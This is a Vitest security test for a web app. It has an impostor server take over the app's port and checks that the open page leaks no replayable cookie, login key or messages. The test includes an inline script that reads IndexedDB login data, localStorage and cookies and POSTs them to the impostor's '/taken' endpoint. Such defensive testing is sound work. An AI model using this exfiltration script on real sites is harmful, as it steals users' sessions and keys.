import { createServer, type Server } from "node:http";
import { expect, onTestFinished, test } from "vitest";
import { WebSocket, WebSocketServer } from "ws";
import { underControl } from "./support/browser.ts";
import { webSuite } from "./support/suite.ts";
import { until } from "./support/until.ts";

const { hub, enter } = webSuite();

const question = (title: string) => ({ title, questions: [{ question: `${title}?`, type: "confirm" as const }] });

interface Stranger {
  /** Headers of requests, and messages of sockets. */
  cookies: Set<string>;
  messages: string[];
  posted: string[];
  close(): Promise<void>;
}

/** Another program on the hub's port: it records everything it receives, serves `page` and welcomes everybody. */
async function takePort(port: number, page: string): Promise<Stranger> {
  const cookies = new Set<string>();
  const [messages, posted]: string[][] = [[], []];
  const server: Server = createServer((request, response) => {
    cookies.add(request.headers.cookie ?? "");
    let body = "";
    request.on("data", (piece) => {
      body += piece;
    });
    request.on("end", () => {
      if (body !== "") posted?.push(body);
      response.setHeader("content-type", "text/html").end(request.url === "/service-worker.js" ? "" : page);
    });
  });
  const sockets = new WebSocketServer({ server });
  sockets.on("connection", (socket, request) => {
    cookies.add(request.headers.cookie ?? "");
    socket.on("message", (data) => {
      messages?.push(String(data));
      socket.send(JSON.stringify({ welcome: { protocol: 2, hub: { version: "9.9.9", instance: "stranger" } } }));
    });
  });
  await new Promise<void>((listening) => server.listen(port, "127.0.0.1", listening));
  let isOpen = true;
  const close = async () => {
    if (!isOpen) return;
    isOpen = false;
    for (const socket of sockets.clients) socket.terminate();
    server.closeAllConnections();
    await new Promise((closed) => server.close(closed));
  };
  onTestFinished(close);
  return { cookies, messages: messages ?? [], posted: posted ?? [], close };
}

/** The hub's response to a replay of these messages, with this cookie. */
async function repeat(messages: readonly string[], cookie: string): Promise<string[]> {
  const said: string[] = [];
  const socket = new WebSocket(`${hub().url.replace("http", "ws")}/ws`, { headers: { cookie, origin: hub().url } });
  const closed = new Promise((resolve) => socket.on("close", resolve));
  socket.on("message", (data) => said.push(String(data)));
  await new Promise((opened) => socket.on("open", opened));
  // Everything a page has ever sent, as often as it likes.
  for (const message of [...messages, ...messages]) socket.send(message);
  await closed;
  return said;
}

// promise: page-proves-hub, page-keeps-no-secret
test("an open page sends an impostor on the hub's port nothing that could be replayed, and one loaded from it cannot read the key or the secret", async () => {
  await hub().ask(question("Deploy"));
  const { page, context } = await enter({ serviceWorkers: "allow" });
  await page.locator(".row-title").getByText("Deploy").waitFor();
  await underControl(page);
  // A part that is loaded later would come from the impostor, and the page would be reloaded.
  await page.waitForLoadState("networkidle");
  const port = Number(new URL(hub().url).port);
  await hub().down();
  // A service worker asks the port first, and serves the impostor's response.
  const stranger = await takePort(
    port,
    `<title>A stranger</title><script>
      const opening = indexedDB.open("askbox");
      opening.onsuccess = () => {
        const reading = opening.result.transaction("login").objectStore("login").get("this browser");
        reading.onsuccess = async () => {
          const key = await crypto.subtle.exportKey("raw", reading.result.key).then((bytes) => btoa(String.fromCharCode(...new Uint8Array(bytes))), String);
          await fetch("/taken", { method: "POST", body: JSON.stringify({ storage: { ...localStorage }, cookie: document.cookie, login: reading.result, key }) });
        };
      };
    </script>`,
  );
  await until(async () => stranger.messages.length > 1, "the page to come to the stranger");
  for (const message of stranger.messages) expect(Object.keys(JSON.parse(message))).toEqual(["hello"]);
  // The impostor's page in place of a part is not kept.
  const part = "/assets/part-of-it.js";
  expect(await page.evaluate((path) => fetch(path).then(({ ok }) => ok), part)).toBe(true);
  expect(await page.evaluate((path) => caches.match(path).then((kept) => kept !== undefined), part)).toBe(false);
  const bookmark = await context.newPage();
  await bookmark.goto(`http://127.0.0.1:${port}/`);
  await until(async () => stranger.posted.length > 0, "the stranger to have what it can take");
  await bookmark.close();
  const [loot = ""] = stranger.posted;
  expect(JSON.parse(loot)).toMatchObject({ cookie: "", key: expect.stringContaining("InvalidAccessError"), login: { key: {} } });
  expect(loot).not.toContain("abx_");
  await stranger.close();
  await hub().up();

  const [cookie = ""] = [...stranger.cookies].filter((each) => each !== "");
  const taken = cookie.split("=")[1] ?? "";
  expect(taken).toMatch(/^abx_/);
  for (const headers of [{ cookie }, { cookie, authorization: `Bearer ${taken}` }] as Record<string, string>[]) {
    expect((await fetch(`${hub().url}/api/sessions`, { headers })).status).toBe(401);
  }
  for (const said of await repeat(stranger.messages, cookie)) expect(said).not.toContain('"welcome":');
  await hub().ask(question("Rename"));
  await page.getByText("Rename").first().waitFor();
});
